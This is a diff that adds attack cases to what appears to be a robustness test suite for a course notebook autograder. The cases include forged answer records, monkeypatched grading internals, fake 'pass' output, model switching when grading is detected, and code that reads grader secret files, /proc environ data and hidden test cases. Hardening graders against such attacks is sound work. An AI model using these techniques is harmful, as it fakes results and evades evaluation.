@@ -56,6 +56,9 @@ class Attack:
     # Graded in an autograde run of its own: it is known to crash the grader's process (today: the whole
     # class's run), which would hide every other attack's result. A crash still fails the test.
     own_run: bool = False
+    # Test cells (grade_ids) the attack's notebook earns by honest work of its own (e.g. a correct forward
+    # beside a forged gradient): their points are not counted as gained.
+    honest: tuple = ()
 
     @property
     def assignment(self) -> str:
@@ -1269,6 +1272,606 @@ ATTACKS: list[Attack] = [
            "input transformer turns every later test cell into 'pass'"),
     Attack("ast_strips_asserts", TRANSFORM, NB1, hooked(NB1, AST_STRIP_ASSERTS),
            "AST transformer deletes every assert and raise statement of later cells"),
+]
+
+
+# ==========================================================================================================
+# Second wave: against the redesign (issue 12): answers published as records of type records.MIME from the
+# kit's run_test, inputs read from the kernel's cases file (env BACKPROP_KIT_CASES), verdicts made outside.
+# ==========================================================================================================
+FORGE = "forged answer records"
+CASES = "cases file tampering"
+KIT_PATCH = "kit internals replaced"
+SELF_REPORT = "self-reported flags"
+ODD_IMPORT = "answer key from odd places"
+GRADING_SWITCH = "grading detection"
+MODEL_CHEAT = "report model cheats"
+RECORD_ABUSE = "malformed records"
+FAKE_OUTPUT = "fake verdict outputs"
+TIMING = "timing"
+LEAK_CASES = "printing cases / environment"
+
+# What every forging attack starts from: the kit's own modules, the expected values the kit ships for the
+# visible tests, the test id of a cell's source, and answers in the shape test.ask() produces.
+ORACLE = """
+import json, os, re
+import numpy as np
+from IPython.display import display as _display
+from backprop_kit.testing import cases as _kc, records as _kr, runner as _kx, spec as _ks
+
+_NB = {notebook!r}
+_SHIPPED = {{tid: (_kr.decode(s['inputs']), _kr.decode(s['expected'])) for tid, s in _kc._visible().get(_NB, {{}}).items()}}
+
+
+def _test_id(text):
+    found = re.search(r'run_test\\(\\s*["\\']([^"\\']+)', text or '')
+    return found.group(1) if found else None
+
+
+def _shipped_for(tid):
+    # the shipped visible case of this test, or of the visible test of the same exercise
+    if tid in _SHIPPED:
+        return _SHIPPED[tid]
+    stem = re.split(r'[-_]test|_hidden|-hidden', tid)[0]
+    return next((v for k, v in _SHIPPED.items() if k.startswith(stem) and isinstance(v[1], list)), (None, None))
+
+
+def _grading_inputs(tid):
+    try:
+        return _kc.load_case(_NB, tid).inputs
+    except Exception:
+        return None
+
+
+def _forged(tid, inputs=None):
+    # answers in test.ask()'s format built from the shipped expected values: no student code involved
+    expected = _shipped_for(tid)[1]
+    if not isinstance(expected, list) or not expected:
+        return {{'cases': []}}
+    n = len(inputs['cases']) if isinstance(inputs, dict) and isinstance(inputs.get('cases'), list) else len(expected)
+    return {{'cases': [{{'value': expected[i % len(expected)], 'changed': [], 'fp_errors': []}} for i in range(n)]}}
+
+
+def _publish_record(tid, answers):
+    _display({{_kr.MIME: {{'notebook': _NB, 'test': tid, 'answers': _kr.encode(answers)}}}}, raw=True)
+
+
+def _same(a, b):
+    try:
+        if isinstance(a, (list, tuple)) and isinstance(b, (list, tuple)):
+            return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b))
+        return np.shape(a) == np.shape(b) and np.array_equal(np.asarray(a, dtype=np.float64), np.asarray(b, dtype=np.float64), equal_nan=True)
+    except Exception:
+        return False
+
+
+def _lookup(name, fallback):
+    # a student function that returns the shipped expected value when called on a shipped case's arguments
+    def function(*args):
+        for inputs, expected in _SHIPPED.values():
+            cases = inputs.get('cases') if isinstance(inputs, dict) else None
+            if not isinstance(cases, list) or not isinstance(expected, list):
+                continue
+            for case, value in zip(cases, expected):
+                if len(case) == len(args) and all(_same(a, b) for a, b in zip(args, case.values())):
+                    return value
+        return fallback(*args)
+    function.__name__ = name
+    return function
+"""
+
+
+def oracle(notebook: str) -> str:
+    return ORACLE.format(notebook=notebook)
+
+
+NB1_LOOKUPS = """
+sigmoid = _lookup('sigmoid', lambda g: np.full(np.shape(g), 0.5))
+softmax = _lookup('softmax', lambda z: np.full(np.shape(z), 1.0 / np.shape(z)[1]))
+cross_entropy = _lookup('cross_entropy', lambda y_hat, y: 1.0)
+forward = _lookup('forward', lambda x, W_mid, b_mid, W_out, b_out: (np.full((len(x), len(b_mid)), 0.5),
+                                                                   np.full((len(x), len(b_out)), 0.5)))
+"""
+
+FORGE_PRE_RUN = """
+def _forge_before(info):
+    tid = _test_id(info.raw_cell)
+    if tid:
+        _publish_record(tid, _forged(tid, _grading_inputs(tid)))
+
+get_ipython().events.register('pre_run_cell', _forge_before)
+run_test = lambda *args, **kwargs: None     # the test cells publish nothing of their own
+"""
+
+FORGE_ANSWER_CELL = """
+def run_test(tid, **student):
+    # the test cell's own call now publishes, through the kit's publish, answers built by the kit's ask on
+    # shipped-case lookups (hidden cases: the visible case's expected values)
+    inputs = _grading_inputs(tid)
+    test = _kx.notebook_tests(_NB)[tid]
+    try:
+        answers = test.ask(student, inputs) if inputs is not None else _forged(tid)
+    except Exception:
+        answers = _forged(tid)
+    if not isinstance(answers, dict) or not answers.get('cases') or any('error' in a for a in answers['cases']):
+        answers = _forged(tid, inputs)
+    _kx.publish(_NB, tid, answers)
+"""
+
+TWO_RECORDS = """
+_real_run_test = run_test
+
+def run_test(tid, **student):
+    _publish_record(tid, _forged(tid, _grading_inputs(tid)))      # one forged (shipped expected values)
+    _real_run_test(tid, **student)                                # one real (the dummies' wrong answers)
+"""
+
+REWRITE_CASES = """
+_path = _kc.grading_file()
+if _path:
+    with open(_path, encoding='utf-8') as _f:
+        _data = json.load(_f)
+    _raw = _kc._visible().get(_NB, {})
+    for _tid in list(_data):
+        _stem = re.split(r'[-_]test|_hidden|-hidden', _tid)[0]
+        _src = _raw.get(_tid) or next((v for k, v in _raw.items() if k.startswith(_stem) and 'cases' in json.dumps(v['inputs'])[:40]), None)
+        if _src:
+            _data[_tid] = {'inputs': _src['inputs']}
+    with open(_path, 'w', encoding='utf-8') as _f:
+        json.dump(_data, _f)
+    _kc._read.cache_clear()
+    print('cases file rewritten:', len(_data), 'tests')
+"""
+
+PATCH_PUBLISH = """
+_real_publish = _kx.publish
+
+def _publish(notebook, tid, answers):
+    _real_publish(notebook, tid, _forged(tid, _grading_inputs(tid)))
+
+_kx.publish = _publish
+"""
+
+PATCH_ENCODE = """
+_current = {'tid': None}
+get_ipython().events.register('pre_run_cell', lambda info: _current.update(tid=_test_id(info.raw_cell)))
+_real_encode = _kr.encode
+
+def _encode(value, depth=0):
+    if depth == 0 and _current['tid'] and isinstance(value, dict) and 'cases' in value:
+        value = _forged(_current['tid'], _grading_inputs(_current['tid']))
+    return _real_encode(value, depth)
+
+_kr.encode = _encode
+_kx.encode = _encode
+"""
+
+PATCH_LOAD_CASE = """
+def _load_case(notebook, tid):
+    inputs, _ = _shipped_for(tid)
+    if inputs is None:
+        raise _kc.CaseMissing(tid)
+    return _kc.Case(inputs, None, True)       # graded: publish the answers to the shipped inputs
+
+_kc.load_case = _load_case
+_kx.load_case = _load_case
+"""
+
+PATCH_CALL_FLAGS = """
+import backprop_kit.testing.calls as _kcalls
+_real_call = _kcalls.call
+
+def _quiet_call(*args, **kwargs):
+    answer = _real_call(*args, **kwargs)
+    if isinstance(answer, dict) and 'value' in answer:
+        answer['changed'], answer['fp_errors'] = [], []
+    return answer
+
+_kcalls.call = _quiet_call
+_ks.call = _quiet_call
+"""
+
+NAIVE_SIGMOID = """def sigmoid(g):
+    return 1 / (1 + np.exp(-np.asarray(g, dtype=np.float64)))"""
+
+NAIVE_SOFTMAX = """def softmax(z):
+    e = np.exp(np.asarray(z, dtype=np.float64))
+    return e / e.sum(axis=1, keepdims=True)"""
+
+ERRSTATE_SIGMOID = """def sigmoid(g):
+    with np.errstate(all='ignore'):      # the overflow of exp(-g) happens, but numpy is told not to say so
+        return 1 / (1 + np.exp(-np.asarray(g, dtype=np.float64)))"""
+
+MUTATING_BACKWARD = """def backward(params, hs, t):
+    L = len(params) // 2
+    n = len(t)
+    hs[-1] -= t                          # in place: the caller's h^L becomes delta^L * N
+    delta = hs[-1] / n
+    grads = [None] * (2 * L)
+    for l in range(L, 0, -1):
+        grads[2 * l - 2] = delta.T @ hs[l - 1]
+        grads[2 * l - 1] = delta.sum(axis=0)
+        if l > 1:
+            delta = (delta @ params[2 * l - 2]) * hs[l - 1] * (1 - hs[l - 1])
+    return grads"""
+
+SAMPLEWISE_NUMERIC_BACKWARD = """def backward(params, hs, t):
+    # no backpropagation: each layer's delta by central differences of every sample's loss with respect to that
+    # layer's pre-activations, one unit at a time for all samples at once (2 n_l forward passes per layer)
+    P = [np.asarray(p, dtype=np.float64) for p in params]
+    hs = [np.asarray(h, dtype=np.float64) for h in hs]
+    t = np.asarray(t, dtype=np.float64)
+    L, n, eps = len(P) // 2, len(t), 1e-5
+
+    def losses(l, g):
+        while l < L:
+            h = 1 / (1 + np.exp(-g))
+            l += 1
+            g = h @ P[2 * l - 2].T + P[2 * l - 1]
+        z = g - g.max(axis=1, keepdims=True)
+        return -(t * (z - np.log(np.exp(z).sum(axis=1, keepdims=True)))).sum(axis=1)
+
+    grads = [None] * (2 * L)
+    for l in range(1, L + 1):
+        g = hs[l - 1] @ P[2 * l - 2].T + P[2 * l - 1]
+        delta = np.empty_like(g)
+        for j in range(g.shape[1]):
+            up, down = g.copy(), g.copy()
+            up[:, j] += eps
+            down[:, j] -= eps
+            delta[:, j] = (losses(l, up) - losses(l, down)) / (2 * eps) / n
+        grads[2 * l - 2] = delta.T @ hs[l - 1]
+        grads[2 * l - 1] = delta.sum(axis=0)
+    return grads"""
+
+REPORT_FORWARD = """def forward(params, x):
+    hs = [np.asarray(x, dtype=np.float64)]
+    for l in range(0, len(params), 2):
+        g = hs[-1] @ np.asarray(params[l], dtype=np.float64).T + np.asarray(params[l + 1], dtype=np.float64)
+        hs.append(1 / (1 + np.exp(-g)) if l + 2 < len(params) else g)
+    return hs"""
+
+REPORT_LOSS = """def regression_loss(h, t):
+    h = np.asarray(h, dtype=np.float64)
+    h = h.reshape(len(h), -1)
+    t = np.asarray(t, dtype=np.float64).reshape(h.shape)
+    return float(0.5 * np.sum((h - t) ** 2) / len(h))"""
+
+KIT_NUMERIC_GRADIENT = """from backprop_kit.gradcheck import numerical_gradient
+
+def gradient(params, x, t):
+    work = [np.array(p, dtype=np.float64) for p in params]
+    return numerical_gradient(lambda: regression_loss(forward(work, x)[-1], t), work)"""
+
+ODD_PLACES = """
+import glob, importlib, os, shutil, sys, zipfile
+_found = []
+_bases = ['/work/main/lib', '/work/main', '/work', '/usr/lib/python3/dist-packages', '/usr/local/lib', '/opt', '/root',
+          '/home', '/srv', '/mnt', '/tmp', '/var/tmp', '/proc/1/root/work/main/lib', '/proc/1/cwd/lib']
+_bases += glob.glob('/proc/[0-9]*/cwd') + glob.glob('/proc/[0-9]*/root/work/main/lib') + [os.path.dirname(p) for p in sys.path]
+for _base in _bases:
+    for _pattern in ('backprop/__init__.py', '*/backprop/__init__.py', '*/*/backprop/__init__.py', 'lib/backprop/__init__.py',
+                     '*/lib/backprop/__init__.py', '*/*/site-packages/backprop/__init__.py'):
+        try:
+            _found += glob.glob(os.path.join(_base, _pattern))
+        except Exception:
+            pass
+for _site in list(sys.path):
+    for _pth in glob.glob(os.path.join(_site, '*.pth')):
+        try:
+            _found += [os.path.join(line.strip(), 'backprop', '__init__.py') for line in open(_pth) if os.path.isdir(os.path.join(line.strip(), 'backprop'))]
+        except Exception:
+            pass
+_found = sorted(set(_found))
+print('backprop packages seen:', _found[:20])
+_MLP = None
+for _init in _found:
+    _root = os.path.dirname(os.path.dirname(_init))
+    try:
+        with zipfile.ZipFile('bp.zip', 'w') as _zip:                 # the zipimport route
+            for _file in glob.glob(os.path.join(_root, 'backprop', '**', '*.py'), recursive=True):
+                _zip.write(_file, os.path.relpath(_file, _root))
+        for _entry in ('bp.zip', _root):
+            sys.path.insert(0, os.path.abspath(_entry))
+            for _name in [n for n in sys.modules if n == 'backprop' or n.startswith('backprop.')]:
+                del sys.modules[_name]
+            try:
+                _MLP = importlib.import_module('backprop').MLP
+                print('imported backprop from', _entry)
+                break
+            except Exception as _error:
+                print('no backprop from', _entry, type(_error).__name__)
+        if _MLP is not None:
+            break
+    except Exception as _error:
+        print('unreadable', _init, type(_error).__name__)
+"""
+
+ODD_PLACES_BACKWARD = """def backward(params, hs, t):
+    if _MLP is None:
+        return [np.zeros(np.shape(p)) for p in params]
+    net = _MLP([np.shape(hs[0])[1]] + [np.shape(W)[0] for W in params[0::2]], hidden='sigmoid', output='softmax')
+    net.params[:] = [np.array(p, dtype=np.float64) for p in params]
+    return net.backward([np.asarray(h, dtype=np.float64) for h in hs], np.asarray(t, dtype=np.float64))"""
+
+READ_GRADER_FILES = """import glob, os
+_paths = ['/work/main/lib/backprop/grading/builders/nb_report11.py', '/work/main/lib/backprop/grading/terrain.py',
+          '/work/main/lib/backprop/grading/seeds.py', '/work/main/.grading_secret', '/proc/self/mountinfo']
+for _pattern in ('/tmp/integrity-*/course/.grading_secret', '/tmp/*/course/.grading_secret', '/tmp/*/*/.grading_secret',
+                 '/proc/[0-9]*/root/tmp/integrity-*/course/.grading_secret', '/proc/[0-9]*/cwd/.grading_secret',
+                 '/proc/[0-9]*/environ', '/proc/[0-9]*/cmdline', '/work/*/lib/backprop/grading/*.py'):
+    _paths += glob.glob(_pattern)
+for _path in _paths:
+    try:
+        with open(_path, errors='replace') as _f:
+            print('==', _path, '\\n', _f.read()[:4000])
+    except Exception as _error:
+        print('==', _path, type(_error).__name__)
+print(os.getcwd(), os.listdir('.'), os.listdir('..'))
+"""
+
+POOR_NETWORK = """_rng = np.random.default_rng(0)
+trained_params = [_rng.normal(size=(4, 2)), np.zeros(4), _rng.normal(size=(1, 4)) * 0.1,
+                  np.array([float(np.mean(t_train))])]
+
+
+def _network(x):
+    h = 1 / (1 + np.exp(-(np.asarray(x, dtype=np.float64) @ trained_params[0].T + trained_params[1])))
+    return h @ trained_params[2].T + trained_params[3]
+
+
+def _knn(x):
+    x = np.asarray(x, dtype=np.float64)
+    distances = ((x[:, None, :] - x_data[None, :, :]) ** 2).sum(axis=2)
+    nearest = np.argsort(distances, axis=1)[:, :3]
+    weights = 1.0 / (np.take_along_axis(distances, nearest, axis=1) + 1e-6)
+    return ((t_data[nearest, 0] * weights).sum(axis=1) / weights.sum(axis=1))[:, None]
+"""
+
+KNN_REAL_PARAMS = POOR_NETWORK + """
+
+def report_model(x):
+    return _knn(x)      # a real (poor) network is published; the predictions come from a k-NN"""
+
+GRADING_SWITCH_MODEL = POOR_NETWORK + """
+import os
+
+
+def report_model(x):
+    if os.environ.get('BACKPROP_KIT_CASES'):     # grading: the k-NN; at home: the network
+        return _knn(x)
+    return _network(x)"""
+
+HUGE_PARAMS = """_rng = np.random.default_rng(0)
+_width = 1500
+trained_params = [_rng.normal(size=(_width, 2)), np.zeros(_width), _rng.normal(size=(_width, _width)) * 0.01,
+                  np.zeros(_width), _rng.normal(size=(1, _width)) * 0.01, np.array([float(np.mean(t_train))])]
+import backprop_kit.testing.nb_report11 as _r11
+_r11.MAX_PARAMETERS = 10 ** 9                    # the kit's refusal lifted: the record carries 2.3 M parameters
+
+
+def report_model(x):
+    h = np.asarray(x, dtype=np.float64)
+    for l in range(0, len(trained_params), 2):
+        g = h @ trained_params[l].T + trained_params[l + 1]
+        h = 1 / (1 + np.exp(-g)) if l + 2 < len(trained_params) else g
+    return h"""
+
+ODD_VALUES = {
+    "sigmoid-answer": "def sigmoid(g):\n    return np.full(np.shape(g), np.nan)",
+    "softmax-answer": "def softmax(z):\n    z = np.asarray(z, dtype=np.float64)\n    return np.full(z.shape, 1.0 / z.shape[1]) + 0j",
+    "cross-entropy-answer": "def cross_entropy(y_hat, y):\n    return float('inf')",
+    "forward-answer": """class _Weird(np.ndarray):
+    def __array__(self, *args, **kwargs):
+        return np.full(self.shape, 0.25)
+
+
+def forward(x, W_mid, b_mid, W_out, b_out):
+    n = np.shape(x)[0]
+    return (np.array([[object()] * len(b_mid)] * n, dtype=object),
+            np.full((n, len(b_out)), 1.0 / len(b_out)).view(_Weird))""",
+    "hand-weights-answer": "W_mid_hand = np.array([[1e308, -1e308], [np.inf, 1j]])\nb_mid_hand = [None, 'a']\n"
+                           "W_out_hand = {'W': 1}\nb_out_hand = 10 ** 400",
+}
+
+RECORD_BOMBS = """
+def run_test(tid, **student):
+    deep = {'text': 'x'}
+    for _ in range(900):
+        deep = {'list': [deep]}
+    _display({_kr.MIME: {'notebook': _NB, 'test': tid, 'answers': deep}}, raw=True)
+    _display({_kr.MIME: {'notebook': _NB, 'test': tid, 'answers': {'text': 'y' * 5_000_000}}}, raw=True)
+    _display({_kr.MIME: {'notebook': _NB, 'test': tid, 'answers': {'dict': {str(i): None for i in range(200_000)}}}}, raw=True)
+    _display({_kr.MIME: [{'notebook': _NB, 'test': tid}] * 1000}, raw=True)
+"""
+
+OVERFLOW_SHAPE = """
+def run_test(tid, **student):
+    # a shape whose element count overflows int64 to 0 matches an empty byte string
+    _display({_kr.MIME: {'notebook': _NB, 'test': tid,
+                         'answers': {'array': '', 'dtype': '<f8', 'shape': [2 ** 62, 4], 'type': 'ndarray'}}}, raw=True)
+"""
+
+FAKE_VERDICTS = """
+def _fake(info):
+    if _test_id(info.raw_cell) or 'テスト' in (info.raw_cell or '').split('\\n', 1)[0]:
+        print('合格')
+        _display({'text/plain': '合格', 'text/html': '<pre>合格</pre>',
+                  'application/vnd.jupyter.stdout': '合格'}, raw=True)
+
+get_ipython().events.register('pre_run_cell', _fake)
+run_test = lambda *args, **kwargs: print('合格')
+"""
+
+PRECOMPUTE_THREAD = """
+import threading, time
+from backprop_kit.gradcheck import numerical_gradient
+_CACHE = {}
+
+
+def _fingerprint(params):
+    return tuple(np.asarray(p, dtype=np.float64).tobytes()[:256] for p in params)
+
+
+def _precompute():
+    # from the first answer cell on, every backward case of the cases file is differentiated numerically in the
+    # background, smallest first, using the time of all the cells in between
+    path = _kc.grading_file()
+    if not path:
+        return
+    with open(path, encoding='utf-8') as f:
+        data = json.load(f)
+    jobs = []
+    for tid, item in data.items():
+        if 'backward' in tid:
+            jobs += _kr.decode(item['inputs'])['cases']
+    jobs.sort(key=lambda case: sum(np.size(p) for p in case['params']))
+    for case in jobs:
+        work = [np.array(p, dtype=np.float64) for p in case['params']]
+        x, t = np.asarray(case['hs'][0]), np.asarray(case['t'])
+        _CACHE[_fingerprint(case['params'])] = numerical_gradient(lambda: loss(work, x, t), work, eps=1e-6)
+
+
+threading.Thread(target=_precompute, daemon=True).start()
+"""
+
+PRECOMPUTE_BACKWARD = """def backward(params, hs, t):
+    deadline = time.time() + 20
+    while time.time() < deadline:
+        found = _CACHE.get(_fingerprint(params))
+        if found is not None:
+            return found
+        time.sleep(0.05)
+    return [np.zeros(np.shape(p)) for p in params]"""
+
+PRINT_CASES_ENV = """import os, base64
+_path = os.environ.get('BACKPROP_KIT_CASES')
+print('cases file:', _path, 'cwd:', os.getcwd(), os.listdir('.'))
+if _path:
+    _text = open(_path, encoding='utf-8').read()
+    print(_text)
+    print(base64.b64encode(_text.encode()).decode()[:20000])
+    from backprop_kit.testing.records import decode as _decode
+    import json as _json
+    for _tid, _item in _json.load(open(_path, encoding='utf-8')).items():
+        print(_tid, _decode(_item['inputs']))
+print(dict(os.environ))
+print(open('/proc/self/mountinfo').read())
+"""
+
+EXCEPTION_CASES = {
+    "forward-answer": """def forward(params, x):
+    import os
+    raise ValueError(open(os.environ['BACKPROP_KIT_CASES']).read()[:3000])""",
+    "gradient-answer": """def gradient(params, x, t):
+    import base64, os
+    raise ValueError(base64.b64encode(open(os.environ['BACKPROP_KIT_CASES'], 'rb').read()[:3000]).decode())""",
+}
+
+
+def _oracle_prefixed(notebook: str, code: str, answers: dict | None = None, dummies: bool = True) -> Callable:
+    """Attack builder: (dummy) answers, and the oracle plus `code` at the top of the first answer cell."""
+    def build(nb):
+        merged = dict(DUMMIES[notebook]) if dummies else {}
+        merged.update(answers or {})
+        return prefix_first_answer(nb, oracle(notebook) + code, merged)
+    return build
+
+
+def _oracle_appended(notebook: str, code: str) -> Callable:
+    """Attack builder: dummy answers, the oracle and `code` in a cell added after the imports (an unlocked cell
+    a student may add anywhere)."""
+    return lambda nb: insert_after_first_code(set_answers(nb, DUMMIES[notebook]), oracle(notebook) + code)
+
+
+def _lookup_answers(notebook: str, code: str) -> Callable:
+    """Attack builder: answer cells emptied to 'pass' and the oracle's lookup functions defined up front."""
+    def build(nb):
+        stubs = {meta(c)["grade_id"]: "pass" for c in nb.cells if is_answer(c)}
+        return prefix_first_answer(nb, oracle(notebook) + code, stubs)
+    return build
+
+
+NB3_LOOKUPS = """
+preprocess = _lookup('preprocess', lambda images: np.zeros((len(images), 64)))
+accuracy = _lookup('accuracy', lambda h, y: 0.5)
+confusion_matrix = _lookup('confusion_matrix', lambda y_true, y_pred, n_classes: np.zeros((n_classes, n_classes), dtype=np.int64))
+HYPERPARAMS = {'hidden_sizes': [2], 'activation': 'sigmoid', 'lr': 0.001, 'epochs': 1, 'batch_size': 512}
+"""
+
+NB1_BACKWARD_HONEST = ("test_backward_visible", "test_backward_hidden_deep", "test_backward_hidden_deeper",
+                       "test_backward_hidden_shapes")
+REPORT_FORWARD_LOSS_CELLS = ("forward-test", "forward-test-hidden", "loss-test", "loss-test-hidden", "loss-test-hidden-flat")
+
+ATTACKS += [
+    # --- forged records (right MIME, right test ids)
+    Attack("forge_records_pre_run_cell", FORGE, NB2, _oracle_prefixed(NB2, FORGE_PRE_RUN),
+           "pre_run_cell hook publishes a record per test cell (kit MIME, its test id, shipped expected values); run_test no-op"),
+    Attack("forge_records_answer_cell", FORGE, NB1, _lookup_answers(NB1, NB1_LOOKUPS + FORGE_ANSWER_CELL),
+           "run_test redefined in an answer cell: kit ask on lookups of the shipped cases, else forged, via kit publish"),
+    Attack("two_records_per_test", FORGE, NB2, _oracle_prefixed(NB2, TWO_RECORDS),
+           "every test cell publishes a forged record (shipped expected values) and the real one (dummies)"),
+    # --- the cases file
+    Attack("rewrite_cases_file", CASES, NB1, _lookup_answers(NB1, NB1_LOOKUPS + REWRITE_CASES),
+           "cases file rewritten with the shipped visible inputs before any test; answers are lookups of the shipped expected"),
+    # --- kit internals replaced
+    Attack("patch_runner_publish", KIT_PATCH, REP, _oracle_prefixed(REP, PATCH_PUBLISH),
+           "backprop_kit.testing.runner.publish replaced: publishes forged answers instead of the student's"),
+    Attack("patch_records_encode", KIT_PATCH, NB2, _oracle_prefixed(NB2, PATCH_ENCODE),
+           "records.encode (and runner's binding) replaced: the current test's answers swapped for forged ones"),
+    Attack("patch_cases_load_case", KIT_PATCH, NB3, _lookup_answers(NB3, NB3_LOOKUPS + PATCH_LOAD_CASE),
+           "cases.load_case replaced: every test answers the shipped visible inputs (graded), with lookups"),
+    Attack("patch_calls_call_flags", SELF_REPORT, NB1,
+           _oracle_prefixed(NB1, PATCH_CALL_FLAGS, {"sigmoid-answer": NAIVE_SIGMOID, "softmax-answer": NAIVE_SOFTMAX}),
+           "naive sigmoid/softmax (overflow) + calls.call replaced to report no fp_errors and no changed arguments",
+           honest=("sigmoid-test-values", "softmax-test-values")),
+    Attack("errstate_hides_overflow", SELF_REPORT, NB1, answers_only(NB1, {"sigmoid-answer": ERRSTATE_SIGMOID}),
+           "naive 1/(1+exp(-g)) inside np.errstate(all='ignore'): overflow happens, the kit's flag never sees it",
+           honest=("sigmoid-test-values",)),
+    Attack("mutating_backward_flag_forged", SELF_REPORT, NB2,
+           _oracle_prefixed(NB2, PATCH_CALL_FLAGS, {"backward": MUTATING_BACKWARD}),
+           "correct backward that overwrites hs[-1] in place + calls.call patched to report nothing changed",
+           honest=NB1_BACKWARD_HONEST),
+    # --- numerical differentiation against the large hidden case
+    Attack("samplewise_numeric_backward", NUMERIC, NB2, answers_only(NB2, {"backward": SAMPLEWISE_NUMERIC_BACKWARD}),
+           "deltas by central differences of per-sample losses wrt pre-activations (2 n_l passes per layer), no backprop"),
+    Attack("kit_gradcheck_gradient_report", NUMERIC, REP,
+           answers_only(REP, {"forward-answer": REPORT_FORWARD, "loss-answer": REPORT_LOSS,
+                              "gradient-answer": KIT_NUMERIC_GRADIENT}),
+           "gradient = backprop_kit.gradcheck.numerical_gradient of a correct forward/loss",
+           honest=REPORT_FORWARD_LOSS_CELLS),
+    Attack("precompute_numeric_in_thread", TIMING, NB2,
+           answers_only(NB2, {"output_delta": DUMMIES[NB2]["output_delta"] + "\n\n" + "import json\nfrom backprop_kit.testing import cases as _kc, records as _kr\n" + PRECOMPUTE_THREAD,
+                              "backward": PRECOMPUTE_BACKWARD}),
+           "thread started in the first answer cell differentiates every backward case of the cases file numerically, using all cells' time"),
+    # --- the answer key from odd places
+    Attack("import_backprop_odd_places", ODD_IMPORT, NB2, hooked(NB2, ODD_PLACES, {"backward": ODD_PLACES_BACKWARD}),
+           "backprop searched in /work, /proc/*/cwd, /proc/*/root, .pth entries; imported via sys.path and zipimport"),
+    Attack("read_grader_files", ODD_IMPORT, REP, hooked(REP, READ_GRADER_FILES),
+           "prints grader sources under /work, the course's .grading_secret, /proc/*/environ and cmdline, mountinfo"),
+    # --- report11 model
+    Attack("knn_with_real_params", MODEL_CHEAT, REP, answers_only(REP, {"model-answer": KNN_REAL_PARAMS}),
+           "trained_params a real (poor) network; report_model a 3-NN of the training CSV"),
+    Attack("grading_env_switch_model", GRADING_SWITCH, REP, answers_only(REP, {"model-answer": GRADING_SWITCH_MODEL}),
+           "report_model is the network at home and a k-NN when BACKPROP_KIT_CASES is set"),
+    Attack("huge_trained_params", MODEL_CHEAT, REP, answers_only(REP, {"model-answer": HUGE_PARAMS}),
+           "2 -> 1500 -> 1500 -> 1 network (2.3 M parameters), kit's MAX_PARAMETERS lifted in the kernel"),
+    # --- malformed records and odd values
+    Attack("odd_values_answers", RECORD_ABUSE, NB1, answers_only(NB1, ODD_VALUES),
+           "answers: NaN, complex, inf, object arrays, an ndarray subclass with a lying __array__, 10**400"),
+    Attack("record_bombs", RECORD_ABUSE, NB2, _oracle_prefixed(NB2, RECORD_BOMBS),
+           "records nested 900 deep, a 5 MB string, a 200 000-key dict, a list of 1000 records under the MIME"),
+    Attack("overflowing_shape_record", RECORD_ABUSE, NB1, _oracle_prefixed(NB1, OVERFLOW_SHAPE),
+           "record array of shape [2**62, 4]: the element count overflows int64 to 0 and matches empty data"),
+    Attack("fake_pass_outputs", FAKE_OUTPUT, NB1, _oracle_prefixed(NB1, FAKE_VERDICTS),
+           "'合格' printed and displayed (text, html, stdout MIME) in every test cell; run_test prints '合格'"),
+    Attack("visible_expected_lookup", FORGE, NB1, _lookup_answers(NB1, NB1_LOOKUPS),
+           "answers are lookups of the kit's shipped visible cases (hard-coded visible answers), else dummies"),
+    # --- leaks
+    Attack("print_cases_and_environment", LEAK_CASES, NB2, answers_only(NB2, {"output_delta": DUMMIES[NB2]["output_delta"] + "\n\n" + PRINT_CASES_ENV}),
+           "first answer cell prints the cases file (raw, base64, decoded), os.environ and mountinfo"),
+    Attack("exception_carrying_cases", LEAK_CASES, REP, answers_only(REP, EXCEPTION_CASES),
+           "forward/gradient raise with the cases file (raw, base64) as message: carried by the grader's verdict"),
 ]
 
 
